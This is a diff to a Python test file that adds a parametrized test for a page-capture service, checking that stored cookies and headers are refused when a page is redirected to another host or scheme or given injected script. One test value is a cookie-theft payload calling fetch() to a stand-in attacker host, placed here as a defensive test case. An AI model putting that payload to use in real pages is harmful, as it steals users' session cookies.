@@ -198,6 +198,46 @@ def test_a_kept_page_names_its_secrets_and_tells_none(app: Flask, upstream: Upst
     assert json.loads(upstream.requests[-1].body)["cookies"][0]["value"] == SECRET
 
 
+@pytest.mark.parametrize(
+    ("change", "refused"),
+    [
+        pytest.param({"url": "http://93.184.216.35/"}, ["cookies", "headers"], id="another host"),
+        pytest.param({"url": TARGET.replace("http:", "https:")}, ["cookies", "headers"], id="another scheme"),
+        pytest.param({"js": "fetch('//evil.example/' + document.cookie)"}, ["cookies", "headers"], id="js"),
+        pytest.param(
+            {"url": "http://93.184.216.35/", "cookies": {"session": "another"}}, ["headers"], id="a part"
+        ),
+        pytest.param({"url": f"{TARGET}other"}, None, id="another page"),
+        pytest.param({"css": "body { color: red }"}, None, id="css"),
+        pytest.param(
+            {
+                "url": "http://93.184.216.35/",
+                "cookies": {"session": "another"},
+                "headers": {"X-Token": "another"},
+            },
+            None,
+            id="given anew",
+        ),
+        pytest.param(
+            {"url": "http://93.184.216.35/", "cookies": None, "headers": None}, None, id="taken away"
+        ),
+    ],
+)
+def test_what_lets_somebody_in_is_not_led_elsewhere_by_who_does_not_know_it(
+    app: Flask, upstream: Upstream, change: dict[str, Any], refused: list[str] | None
+) -> None:
+    client, key = app.test_client(), make_key(app, "a", *ALL, Scope.SCRIPT)
+    page = client.post("/pages", json={"url": TARGET, **POWERS}, headers=key).get_json()
+    wait_until(lambda: client.get(f"/pages/{page['id']}", headers=key).get_json()["status"] == "ready")
+    answer = client.patch(f"/pages/{page['id']}", json=change, headers=key)
+    if refused is None:
+        assert answer.status_code == 202, answer.text
+        return
+    assert answer.status_code == 400
+    assert sorted(answer.get_json()["errors"]) == refused
+    assert len(upstream.requests) == 1
+
+
 def test_no_representation_and_no_other_key_has_what_is_private() -> None:
     cookies = (Cookie("session", SECRET, "example.com"),)
     request = CaptureRequest(
